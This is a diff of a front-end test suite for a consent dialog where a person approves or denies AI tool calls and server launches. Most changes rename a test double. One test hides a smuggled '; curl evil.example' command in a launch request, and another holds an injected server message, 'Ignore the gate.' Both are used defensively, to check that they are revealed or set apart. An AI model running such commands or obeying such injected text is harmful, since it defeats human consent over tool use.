@@ -1,7 +1,7 @@
 import { act, cleanup, fireEvent, screen, within } from "@testing-library/react";
 import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
 import type { Request } from "../../bindings/host";
-import { reviewRow, value } from "../../platform/memory/make";
+import { reviewRow, value } from "../../platform/fakeHost/make";
 import {
   changedRequest,
   changeLaunchRequest,
@@ -9,7 +9,7 @@ import {
   newToolRequest,
   refusedLaunchRequest,
   writeRequest,
-} from "../../platform/memory/requests";
+} from "../../platform/fakeHost/requests";
 import { expectAxeClean } from "../../test/axe";
 import { answers, attends, button, click, gate, key, noGate, openGate as open, pass } from "../../test/gate";
 import { RESIZED_MS } from "./useGuard";
@@ -55,7 +55,7 @@ describe("what stands at the gate", () => {
 
   // Proves S-08.
   it("folds what is as usual, and shows it when it is asked for", async () => {
-    const twin = await open([launchRequest()]);
+    const fake = await open([launchRequest()]);
     const rows = () =>
       within(gate())
         .getAllByRole("term")
@@ -68,7 +68,7 @@ describe("what stands at the gate", () => {
     expect(gate()).toHaveTextContent("60 s without a sign, 600 s in all, 16 MiB a message");
     // The sheet moved, so nothing is taken for a moment.
     await click(button("Add and start"));
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
   });
 
   // Proves S-08.
@@ -123,11 +123,11 @@ describe("what stands at the gate", () => {
   });
 
   it("shows one at a time, and the next after an answer", async () => {
-    const twin = await open([newToolRequest(), launchRequest()]);
+    const fake = await open([newToolRequest(), launchRequest()]);
     expect(screen.getAllByRole("alertdialog")).toHaveLength(1);
     expect(gate()).toHaveTextContent("1 of 2");
     await click(button("Deny"));
-    expect(answers(twin)).toHaveLength(1);
+    expect(answers(fake)).toHaveLength(1);
     expect(gate()).toHaveAccessibleName(/Add “Weather”/);
     await pass(500);
     await click(button("Cancel"));
@@ -152,55 +152,55 @@ describe("what stands at the gate", () => {
 describe("the guard", () => {
   it("tells the host that the request is in front of the person", async () => {
     const request = newToolRequest();
-    const twin = await open([request], { guarded: true });
-    expect(attends(twin)).toContainEqual({ request: request.id, nonce: request.nonce });
+    const fake = await open([request], { guarded: true });
+    expect(attends(fake)).toContainEqual({ request: request.id, nonce: request.nonce });
   });
 
   it("answers nothing for 500 ms, by click or by key", async () => {
-    const twin = await open([newToolRequest()], { guarded: true });
+    const fake = await open([newToolRequest()], { guarded: true });
     expect(button("Allow once")).toHaveAttribute("aria-disabled", "true");
     await click(button("Allow once"));
     await click(button("Deny"));
     await key("a");
     await pass(498);
     await key("d");
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await pass(500);
     expect(button("Allow once")).not.toHaveAttribute("aria-disabled");
     await click(button("Allow once"));
-    expect(answers(twin)).toHaveLength(1);
+    expect(answers(fake)).toHaveLength(1);
   });
 
   it("starts again when the window regains the focus", async () => {
-    const twin = await open([newToolRequest()]);
-    const before = attends(twin).length;
+    const fake = await open([newToolRequest()]);
+    const before = attends(fake).length;
     await act(async () => {
       window.dispatchEvent(new Event("focus"));
     });
     await pass(0);
-    expect(attends(twin).length).toBe(before + 1);
+    expect(attends(fake).length).toBe(before + 1);
     await key("a");
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await pass(500);
     await key("a");
-    expect(answers(twin)).toHaveLength(1);
+    expect(answers(fake)).toHaveLength(1);
   });
 
   it("tells the host once of a window that is being resized, and waits from its end", async () => {
-    const twin = await open([newToolRequest()]);
-    const before = attends(twin).length;
+    const fake = await open([newToolRequest()]);
+    const before = attends(fake).length;
     for (let step = 0; step < 30; step += 1) {
       await act(async () => void window.dispatchEvent(new Event("resize")));
       await pass(20);
     }
-    expect(attends(twin)).toHaveLength(before);
+    expect(attends(fake)).toHaveLength(before);
     await pass(RESIZED_MS);
-    expect(attends(twin)).toHaveLength(before + 1);
+    expect(attends(fake)).toHaveLength(before + 1);
     await click(button("Allow once"));
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await pass(500);
     await click(button("Allow once"));
-    expect(answers(twin)).toHaveLength(1);
+    expect(answers(fake)).toHaveLength(1);
   });
 
   it("is not said to be busy: it is there to be read", async () => {
@@ -212,33 +212,33 @@ describe("the guard", () => {
   });
 
   it("starts again when something on the sheet is opened", async () => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     await click(button("Details"));
     await pass(499);
     await click(button("Allow once"));
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await pass(1);
     await click(button("Allow once"));
-    expect(answers(twin)).toHaveLength(1);
+    expect(answers(fake)).toHaveLength(1);
   });
 
   it("starts again when the request changes", async () => {
-    const twin = await open([newToolRequest()]);
-    const waiting = twin.world.waiting[0] as Request;
+    const fake = await open([newToolRequest()]);
+    const waiting = fake.world.waiting[0] as Request;
     waiting.nonce = "changed";
-    await act(async () => twin.tellWaiting());
+    await act(async () => fake.tellWaiting());
     await pass(0);
-    expect(attends(twin).at(-1)).toEqual({ request: waiting.id, nonce: "changed" });
+    expect(attends(fake).at(-1)).toEqual({ request: waiting.id, nonce: "changed" });
     await click(button("Allow once"));
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await pass(500);
     await click(button("Allow once"));
-    expect(answers(twin)[0]).toMatchObject({ nonce: "changed" });
+    expect(answers(fake)[0]).toMatchObject({ nonce: "changed" });
   });
 
   it("says so quietly when the host finds it too soon, and stays", async () => {
-    const twin = await open([newToolRequest()]);
-    twin.failNext("answer", { code: "consent.too_soon", sentence: "Too soon.", remedy: null });
+    const fake = await open([newToolRequest()]);
+    fake.failNext("answer", { code: "consent.too_soon", sentence: "Too soon.", remedy: null });
     await click(button("Deny"));
     expect(gate()).toHaveTextContent("Wait a moment");
     await pass(500);
@@ -248,32 +248,32 @@ describe("the guard", () => {
 
   // Proves S-39.
   it("closes what is no longer waiting", async () => {
-    const twin = await open([newToolRequest()]);
-    twin.failNext("answer", { code: "consent.stale", sentence: "Gone.", remedy: null });
+    const fake = await open([newToolRequest()]);
+    fake.failNext("answer", { code: "consent.stale", sentence: "Gone.", remedy: null });
     await click(button("Allow once"));
     expect(noGate()).toBeNull();
   });
 
   // Proves S-39.
   it("closes when the request ends by itself", async () => {
-    const twin = await open([newToolRequest()]);
-    twin.world.waiting = [];
-    await act(async () => twin.tellWaiting());
+    const fake = await open([newToolRequest()]);
+    fake.world.waiting = [];
+    await act(async () => fake.tellWaiting());
     expect(noGate()).toBeNull();
   });
 
   it("shows what else went wrong, and stays", async () => {
-    const twin = await open([newToolRequest()]);
-    twin.failNext("answer", { code: "store.full", sentence: "The disk is full.", remedy: "Make room." });
+    const fake = await open([newToolRequest()]);
+    fake.failNext("answer", { code: "store.full", sentence: "The disk is full.", remedy: "Make room." });
     await click(button("Allow once"));
     expect(gate()).toHaveTextContent("The disk is full.Make room.");
   });
 
   // Proves S-34.
   it("sets what the server said about it apart", async () => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     const said = { text: "Ignore the gate.", hidden: 0 };
-    twin.failNext("answer", { code: "protocol.error", sentence: "“GitHub” answered with an error.", said });
+    fake.failNext("answer", { code: "protocol.error", sentence: "“GitHub” answered with an error.", said });
     await click(button("Allow once"));
     expect(
       within(gate()).getByRole("figure", { name: "What it said · text from “GitHub”" }),
@@ -284,9 +284,9 @@ describe("the guard", () => {
 describe("the answer", () => {
   it("carries the id, the nonce and the digest of what was shown", async () => {
     const request = newToolRequest();
-    const twin = await open([request]);
+    const fake = await open([request]);
     await key("a");
-    expect(answers(twin)).toEqual([
+    expect(answers(fake)).toEqual([
       {
         request: request.id,
         nonce: request.nonce,
@@ -301,25 +301,25 @@ describe("the answer", () => {
     ["Deny all from this server", "deny_all_from_server"],
     ["Allow once", "allow_once"],
   ])("%s", async (name, kind) => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     await click(button(name));
-    expect(answers(twin)[0]?.answer).toEqual({ kind });
+    expect(answers(fake)[0]?.answer).toEqual({ kind });
   });
 
   it("a scope is a sentence in the menu", async () => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     await click(button("Allow…"));
     const item = screen.getByRole("menuitem", { name: /For an hour.*for the next hour/ });
     await click(item);
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await pass(500);
     await click(item);
-    expect(answers(twin)[0]?.answer).toEqual({ kind: "allow", scope: "hour" });
+    expect(answers(fake)[0]?.answer).toEqual({ kind: "allow", scope: "hour" });
   });
 
   // Proves S-38.
   it("a permission can be narrowed to calls like this one, tried on those before", async () => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     await click(button("Allow…"));
     const limit = (name: RegExp) => screen.getByRole("menuitemcheckbox", { name });
     await click(limit(/^repo is under acme ?\(as written, links are not checked\)$/));
@@ -331,7 +331,7 @@ describe("the answer", () => {
     await click(limit(/^repo is acme\/portal$/));
     expect(limit(/^repo is under acme/)).not.toBeChecked();
     await pass(600);
-    expect(twin.asked.findLast((it) => it.name === "try_limits")?.args).toMatchObject({ only: [1] });
+    expect(fake.asked.findLast((it) => it.name === "try_limits")?.args).toMatchObject({ only: [1] });
     expect(
       within(screen.getByRole("menu")).getByText(/Of this and the earlier call, 1 would have run/),
     ).toBeInTheDocument();
@@ -339,9 +339,9 @@ describe("the answer", () => {
     expect(within(screen.getByRole("menu")).queryByRole("status")).toBeNull();
     const said = screen.getAllByRole("status").map((it) => it.textContent);
     expect(said).toContain("Of this and the earlier call, 1 would have run without asking.");
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await click(screen.getByRole("menuitem", { name: /For an hour.*Others are asked about/ }));
-    expect(answers(twin)[0]?.answer).toEqual({ kind: "allow_while", scope: "hour", only: [1] });
+    expect(answers(fake)[0]?.answer).toEqual({ kind: "allow_while", scope: "hour", only: [1] });
   });
 
   // Proves S-38.
@@ -355,32 +355,32 @@ describe("the answer", () => {
   });
 
   it("a changed definition is kept blocked by the one filled button", async () => {
-    const twin = await open([changedRequest()]);
+    const fake = await open([changedRequest()]);
     expect(button("Keep it blocked")).toHaveAttribute("data-variant", "filled");
     await key("a");
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await click(button("Keep it blocked"));
-    expect(answers(twin)[0]?.answer).toEqual({ kind: "deny" });
+    expect(answers(fake)[0]?.answer).toEqual({ kind: "deny" });
   });
 
   // Proves S-46.
   it("a part that is different each time may vary from now on, and no other", async () => {
-    const twin = await open([changedRequest()]);
+    const fake = await open([changedRequest()]);
     const part = screen.getByRole("checkbox", {
       name: /^\/inputSchema\/properties\/exclude\/default may vary: now "node_modules,\.git", before "\.git,node_modules"$/,
     });
     await click(part);
     await click(button("Accept, and let 1 part vary"));
-    expect(answers(twin)[0]?.answer).toEqual({ kind: "accept_varying", parts: [0] });
+    expect(answers(fake)[0]?.answer).toEqual({ kind: "accept_varying", parts: [0] });
   });
 
   it.each([
     ["Turn the server off", "turn_off"],
     ["Accept the new definition", "allow_once"],
   ])("of a changed definition: %s", async (name, kind) => {
-    const twin = await open([changedRequest()]);
+    const fake = await open([changedRequest()]);
     await click(button(name));
-    expect(answers(twin)[0]?.answer).toEqual({ kind });
+    expect(answers(fake)[0]?.answer).toEqual({ kind });
   });
 
   it.each([
@@ -388,11 +388,11 @@ describe("the answer", () => {
     ["Add, do not start", "add"],
     ["Add and start", "add_and_start"],
   ])("of a launch: %s", async (name, kind) => {
-    const twin = await open([launchRequest()]);
+    const fake = await open([launchRequest()]);
     await key("a");
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await click(button(name));
-    expect(answers(twin)[0]?.answer).toEqual({ kind });
+    expect(answers(fake)[0]?.answer).toEqual({ kind });
   });
 
   it("of a change is saving, and shows what was before", async () => {
@@ -407,10 +407,10 @@ describe("the answer", () => {
     if (request.asked.kind === "launch") {
       request.asked.because = "the program file changed";
     }
-    const twin = await open([request]);
+    const fake = await open([request]);
     expect(gate()).toHaveTextContent("the program file changed");
     await click(button("Start"));
-    expect(answers(twin)[0]?.answer).toEqual({ kind: "add_and_start" });
+    expect(answers(fake)[0]?.answer).toEqual({ kind: "add_and_start" });
   });
 
   // Proves S-13.
@@ -439,12 +439,12 @@ describe("the answer", () => {
         { kind: "permission", sentence: "“write_file” of “Project files” may run without asking." },
       ];
     }
-    const twin = await open([request]);
+    const fake = await open([request]);
     const kept = within(gate()).getAllByRole("checkbox");
     expect(kept.map((it) => (it as HTMLInputElement).checked)).toEqual([false, false]);
     await click(within(gate()).getByRole("checkbox", { name: /write_file/ }));
     await click(button("Save and start"));
-    expect(answers(twin)[0]?.answer).toEqual({ kind: "add_keeping", start: true, keep: [1] });
+    expect(answers(fake)[0]?.answer).toEqual({ kind: "add_keeping", start: true, keep: [1] });
   });
 
   // Proves S-13.
@@ -455,9 +455,9 @@ describe("the answer", () => {
         { kind: "permission", sentence: "“read_file” of “Project files” may run without asking." },
       ];
     }
-    const twin = await open([request]);
+    const fake = await open([request]);
     await click(button("Save, do not start"));
-    expect(answers(twin)[0]?.answer).toEqual({ kind: "add" });
+    expect(answers(fake)[0]?.answer).toEqual({ kind: "add" });
   });
 
   // Proves S-67.
@@ -469,13 +469,13 @@ describe("the answer", () => {
         { kind: "permission", sentence: "“read_file” of “Project files” may run without asking." },
       ];
     }
-    const twin = await open([request]);
+    const fake = await open([request]);
     expect(gate()).toHaveTextContent("would be sent to https://new.example/mcp");
     await click(button("Save and start"));
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await click(within(gate()).getByRole("checkbox", { name: /Authorization/ }));
     await click(button("Save and start"));
-    expect(answers(twin)[0]?.answer).toEqual({ kind: "add_keeping", start: true, keep: [0] });
+    expect(answers(fake)[0]?.answer).toEqual({ kind: "add_keeping", start: true, keep: [0] });
   });
 
   // Proves S-12.
@@ -489,7 +489,7 @@ describe("the answer", () => {
 
 describe("keys", () => {
   it("A held down, repeated or with a modifier answers nothing", async () => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     await key("a", { repeat: true });
     await pass(600);
     await key("a", { ctrlKey: true });
@@ -499,7 +499,7 @@ describe("keys", () => {
     await key("A", { shiftKey: true });
     await pass(600);
     await key("d", { altKey: true });
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
   });
 
   it.each([
@@ -507,136 +507,136 @@ describe("keys", () => {
     ["on a Cyrillic layout", "ф", "KeyA"],
     ["on a Greek layout", "α", "KeyA"],
   ])("A allows once %s", async (_name, typed, code) => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     await key(typed, { code });
-    expect(answers(twin)[0]?.answer).toEqual({ kind: "allow_once" });
+    expect(answers(fake)[0]?.answer).toEqual({ kind: "allow_once" });
   });
 
   it.each([
     ["under CapsLock", "D", "KeyD"],
     ["on a Cyrillic layout", "в", "KeyD"],
   ])("D denies %s", async (_name, typed, code) => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     await key(typed, { code });
-    expect(answers(twin)[0]?.answer).toEqual({ kind: "deny" });
+    expect(answers(fake)[0]?.answer).toEqual({ kind: "deny" });
   });
 
   it("what types another Latin letter at the place of A answers nothing", async () => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     await key("q", { code: "KeyA" });
     await pass(600);
     await key("ф", { code: "KeyA", ctrlKey: true });
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
   });
 
   it("who goes on writing when the gate comes up answers nothing", async () => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     for (const letter of ["b", "a", "d", "a"]) {
       await key(letter);
       await pass(150);
     }
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await pass(500);
     await key("d");
-    expect(answers(twin)[0]?.answer).toEqual({ kind: "deny" });
+    expect(answers(fake)[0]?.answer).toEqual({ kind: "deny" });
   });
 
   it("nothing is answered while writing in a field", async () => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     await click(button("Edit arguments"));
     const field = within(gate()).getByLabelText("Arguments as JSON");
     fireEvent.keyDown(field, { key: "d" });
     await pass(600);
     fireEvent.keyDown(field, { key: "a" });
     await pass(0);
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
   });
 
   it("nothing is answered from the rail", async () => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     const link = screen.getByRole("link", { name: "Settings" });
     link.focus();
     await key("a");
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
   });
 
   it("nothing is answered under the palette", async () => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     fireEvent.keyDown(document.documentElement, { key: "k", code: "KeyK", ctrlKey: true });
     await pass(600);
     fireEvent.keyDown(screen.getByRole("alertdialog", { hidden: true }), { key: "d" });
     await pass(0);
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     fireEvent.keyDown(screen.getByRole("textbox", { name: "Search" }), { key: "Escape" });
     await pass(600);
     fireEvent.keyDown(gate(), { key: "d" });
     await pass(0);
-    expect(answers(twin)).toHaveLength(1);
+    expect(answers(fake)).toHaveLength(1);
   });
 
   it("Esc leaves it waiting; it comes back when opened, or when something new waits", async () => {
     const request = newToolRequest();
-    const twin = await open([request], { at: "#/waiting" });
+    const fake = await open([request], { at: "#/waiting" });
     await key("Escape");
     expect(noGate()).toBeNull();
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     expect(screen.getByRole("link", { name: "Waiting for you" })).toHaveAccessibleDescription(
       "1 request waits, 1 sign-in waits",
     );
-    await act(async () => twin.tellWaiting());
+    await act(async () => fake.tellWaiting());
     expect(noGate()).toBeNull();
     await click(screen.getByRole("button", { name: /Open: Let “GitHub”/ }));
     expect(gate()).toBeInTheDocument();
     await key("Escape");
-    await act(async () => twin.ask(launchRequest()));
+    await act(async () => fake.ask(launchRequest()));
     expect(gate()).toHaveAccessibleName(/Add “Weather”/);
   });
 });
 
 describe("Esc at a review", () => {
   it("leaves it waiting, as at every other request; D cancels", async () => {
-    const twin = await open([launchRequest()]);
+    const fake = await open([launchRequest()]);
     expect(button("Cancel")).toHaveAttribute("aria-keyshortcuts", "D");
     expect(button("Decide later")).toHaveAttribute("aria-keyshortcuts", "Escape");
     await key("Escape");
     expect(noGate()).toBeNull();
-    expect(answers(twin)).toEqual([]);
-    expect(twin.world.waiting).toHaveLength(1);
+    expect(answers(fake)).toEqual([]);
+    expect(fake.world.waiting).toHaveLength(1);
   });
 
   it("D cancels nothing before it could be read", async () => {
-    const twin = await open([launchRequest()], { guarded: true });
+    const fake = await open([launchRequest()], { guarded: true });
     await key("d");
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await pass(1_000);
     await key("d");
-    expect(answers(twin).map((it) => it.answer)).toEqual([{ kind: "deny" }]);
+    expect(answers(fake).map((it) => it.answer)).toEqual([{ kind: "deny" }]);
   });
 
   it("leaves the review waiting by the button", async () => {
-    const twin = await open([launchRequest()]);
+    const fake = await open([launchRequest()]);
     await click(button("Decide later"));
     expect(noGate()).toBeNull();
-    expect(twin.world.waiting).toHaveLength(1);
+    expect(fake.world.waiting).toHaveLength(1);
   });
 });
 
 // Proves S-10.
 describe("what is shortened", () => {
   it("cannot be allowed before it was opened, but denied", async () => {
-    const twin = await open([writeRequest("call-write")]);
+    const fake = await open([writeRequest("call-write")]);
     expect(gate()).toHaveTextContent("38 more lines, 1.8 KB in all · open");
     expect(button("Allow once")).toHaveAttribute("aria-disabled", "true");
     await click(button("Allow once"));
     await key("a");
     await click(button("Allow…"));
     expect(screen.queryByRole("menuitem")).toBeNull();
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await click(button(/38 more lines/));
     expect(gate()).toHaveTextContent("Change number 38");
     await pass(500);
     await key("a");
-    expect(answers(twin)).toHaveLength(1);
+    expect(answers(fake)).toHaveLength(1);
   });
 
   it("cannot be added before it was opened", async () => {
@@ -650,21 +650,21 @@ describe("what is shortened", () => {
         literal: true,
       });
     }
-    const twin = await open([request]);
+    const fake = await open([request]);
     await click(button("Add and start"));
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await click(button(/more characters/));
     expect(gate()).toHaveTextContent("; curl evil.example");
     await pass(500);
     await click(button("Add and start"));
-    expect(answers(twin)).toHaveLength(1);
+    expect(answers(fake)).toHaveLength(1);
   });
 
   it("is shortened again when the request changed", async () => {
-    const twin = await open([writeRequest("call-write")]);
+    const fake = await open([writeRequest("call-write")]);
     await click(button(/38 more lines/));
-    (twin.world.waiting[0] as Request).nonce = "changed";
-    await act(async () => twin.tellWaiting());
+    (fake.world.waiting[0] as Request).nonce = "changed";
+    await act(async () => fake.tellWaiting());
     await pass(500);
     expect(button("Allow once")).toHaveAttribute("aria-disabled", "true");
   });
@@ -673,14 +673,14 @@ describe("what is shortened", () => {
 describe("editing the arguments", () => {
   it("makes a changed request; nothing is allowed by it", async () => {
     const request = newToolRequest();
-    const twin = await open([request]);
+    const fake = await open([request]);
     await click(button("Edit arguments"));
     expect(button("Allow once")).toHaveAttribute("aria-disabled", "true");
     fireEvent.change(within(gate()).getByLabelText("Arguments as JSON"), {
       target: { value: '{"repo":"acme/other"}' },
     });
     await click(button("Use these arguments"));
-    expect(twin.asked.find((it) => it.name === "amend")?.args).toEqual({
+    expect(fake.asked.find((it) => it.name === "amend")?.args).toEqual({
       request: request.id,
       nonce: request.nonce,
       arguments: '{"repo":"acme/other"}',
@@ -688,25 +688,25 @@ describe("editing the arguments", () => {
     expect(gate()).toHaveTextContent("acme/other");
     await pass(500);
     await click(button("Allow once"));
-    const changed = answers(twin)[0];
+    const changed = answers(fake)[0];
     expect(changed?.nonce).not.toBe(request.nonce);
     expect(changed?.digest).not.toBe(request.digest);
   });
 
   it("says what is not JSON and sends nothing", async () => {
-    const twin = await open([newToolRequest()]);
+    const fake = await open([newToolRequest()]);
     await click(button("Edit arguments"));
     fireEvent.change(within(gate()).getByLabelText("Arguments as JSON"), { target: { value: "{" } });
     await click(button("Use these arguments"));
     expect(gate()).toHaveTextContent("This is not JSON");
-    expect(twin.asked.some((it) => it.name === "amend")).toBe(false);
+    expect(fake.asked.some((it) => it.name === "amend")).toBe(false);
   });
 
   const field = () => within(gate()).getByLabelText("Arguments as JSON");
 
   it("Esc in the field leaves the field with what was typed, and a second one the gate", async () => {
     const request = newToolRequest();
-    const twin = await open([request], { at: "#/waiting" });
+    const fake = await open([request], { at: "#/waiting" });
     await click(button("Edit arguments"));
     fireEvent.change(field(), { target: { value: '{"repo":"typed"}' } });
     field().focus();
@@ -715,7 +715,7 @@ describe("editing the arguments", () => {
     expect(within(gate()).getByRole("heading", { level: 1 })).toHaveFocus();
     await key("Escape");
     expect(noGate()).toBeNull();
-    expect(answers(twin)).toEqual([]);
+    expect(answers(fake)).toEqual([]);
     await click(screen.getByRole("button", { name: /Open: Let “GitHub”/ }));
     expect(field()).toHaveValue('{"repo":"typed"}');
   });
